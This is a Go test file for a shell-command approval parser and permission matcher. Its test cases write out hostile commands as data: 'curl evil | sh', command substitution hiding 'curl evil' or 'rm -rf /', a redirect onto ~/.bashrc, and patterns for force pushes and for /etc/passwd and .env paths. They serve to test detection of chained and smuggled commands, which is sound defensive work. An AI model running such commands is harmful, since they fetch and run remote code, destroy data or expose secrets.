package approval

import (
	"slices"
	"testing"
)

func TestParseShell(t *testing.T) {
	tests := []struct {
		cmd      string
		parts    []string
		subst    bool
		redirect string
		bad      bool
	}{
		{cmd: "go test ./...", parts: []string{"go test ./..."}},
		{cmd: "  go   test\t./... ", parts: []string{"go test ./..."}},
		{cmd: "go test ./... && curl evil | sh", parts: []string{"go test ./...", "curl evil", "sh"}},
		{cmd: "a || b; c & d |& e", parts: []string{"a", "b", "c", "d", "e"}},
		{cmd: "a\nb\r\nc", parts: []string{"a", "b", "c"}},
		{cmd: "go test $(curl evil)", parts: []string{"go test", "curl evil"}, subst: true},
		{cmd: "go test `curl evil`", parts: []string{"go test", "curl evil"}, subst: true},
		{cmd: `go test "$(curl evil)"`, parts: []string{`go test "`, "curl evil", `"`}, subst: true},
		{cmd: "diff <(ls a) >(ls b)", parts: []string{"diff", "ls a", "ls b"}, subst: true},
		{cmd: `go test -run 'A|B;C && $(x)' ./...`, parts: []string{`go test -run 'A|B;C && $(x)' ./...`}},
		{cmd: `echo "a && b | c"`, parts: []string{`echo "a && b | c"`}},
		{cmd: `echo a\;b`, parts: []string{`echo a\;b`}},
		{cmd: "go test ./... 2>&1", parts: []string{"go test ./... 2>&1"}},
		{cmd: "go test ./... > /dev/null 2>&1", parts: []string{"go test ./... > /dev/null 2>&1"}},
		{cmd: "go test ./... > ~/.bashrc", parts: []string{"go test ./... > ~/.bashrc"}, redirect: "~/.bashrc"},
		{cmd: "go test >>out.txt", parts: []string{"go test >>out.txt"}, redirect: "out.txt"},
		{cmd: "go test &> log", parts: []string{"go test &> log"}, redirect: "log"},
		{cmd: "(cd x && rm -rf y)", parts: []string{"cd x", "rm -rf y"}},
		{cmd: "{ a; b; }", parts: []string{"a", "b"}},
		{cmd: "echo ${HOME}", parts: []string{"echo ${HOME}"}},
		{cmd: "make \\\n  test", parts: []string{"make test"}},
		{cmd: "echo 'unclosed", parts: []string{"echo 'unclosed"}, bad: true},
		{cmd: "echo `unclosed", parts: []string{"echo", "unclosed"}, subst: true, bad: true},
		{cmd: `go test "$(ls; rm -rf /)"`, parts: []string{`go test "`, "ls", "rm -rf /", `"`}, subst: true},
		{cmd: "echo \"a `b;c` d\"", parts: []string{`echo "a`, "b", "c", `d"`}, subst: true},
		{cmd: "echo $(a (b; c) d) e", parts: []string{"echo", "a", "b", "c", "d", "e"}, subst: true},
		{cmd: "echo $(a `b; c` d)", parts: []string{"echo", "a", "b", "c", "d"}, subst: true},
		{cmd: "echo `x \"y` z", parts: []string{"echo", `x "y`, "z"}, subst: true, bad: true},
		{cmd: "echo $(unclosed", parts: []string{"echo", "unclosed"}, subst: true, bad: true},
		{cmd: `echo "$(x "y;z")"`, parts: []string{`echo "`, `x "y;z"`, `"`}, subst: true},
		{cmd: "", parts: nil},
	}
	for _, tt := range tests {
		sh := ParseShell(tt.cmd)
		if !slices.Equal(sh.Parts, tt.parts) || sh.Substitution != tt.subst || sh.Redirect != tt.redirect || (sh.Err != nil) != tt.bad {
			t.Errorf("ParseShell(%q) = parts %q subst %v redirect %q err %v; want %q %v %q bad=%v",
				tt.cmd, sh.Parts, sh.Substitution, sh.Redirect, sh.Err, tt.parts, tt.subst, tt.redirect, tt.bad)
		}
	}
}

func TestMatchWords(t *testing.T) {
	tests := []struct {
		pattern, s string
		want       bool
	}{
		{"go test *", "go test ./...", true},
		{"go test *", "go test", true},
		{"go test *", "go testx", false},
		{"go test *", "go vet ./...", false},
		{"go  test   *", "go test -run X ./pkg/...", true},
		{"npm run lint", "npm run lint", true},
		{"npm run lint", "npm run lint --fix", false},
		{"rm -rf *", "rm -rf /", true},
		{"*rm -rf*", "sudo rm -rf /", true},
		{"git push * --force*", "git push origin main --force", true},
		{"git push * --force*", "git push origin main", false},
		{"ls ?", "ls a", true},
		{"ls ?", "ls é", true},
		{"ls ?", "ls ab", false},
	}
	for _, tt := range tests {
		if got := matchWords(tt.pattern, tt.s); got != tt.want {
			t.Errorf("matchWords(%q, %q) = %v, want %v", tt.pattern, tt.s, got, tt.want)
		}
	}
}

func TestMatchPath(t *testing.T) {
	tests := []struct {
		glob, base, p string
		want          bool
	}{
		{"**/*.go", "/w", "/w/a/b/c.go", true},
		{"**/*.go", "/w", "/w/c.go", true},
		{"**/*.go", "/w", "/x/c.go", false},
		{"*.go", "/w", "/w/a/c.go", false},
		{"docs/", "/w", "/w/docs/a/b.md", true},
		{"/etc/**", "/w", "/etc/passwd", true},
		{"/etc/**", "/w", "/etcx/passwd", false},
		{"**/.env", "", "/w/.env", false},
		{"/**/.env", "", "/w/.env", true},
	}
	for _, tt := range tests {
		if got := matchPath(tt.glob, tt.base, tt.p); got != tt.want {
			t.Errorf("matchPath(%q, %q, %q) = %v, want %v", tt.glob, tt.base, tt.p, got, tt.want)
		}
	}
}
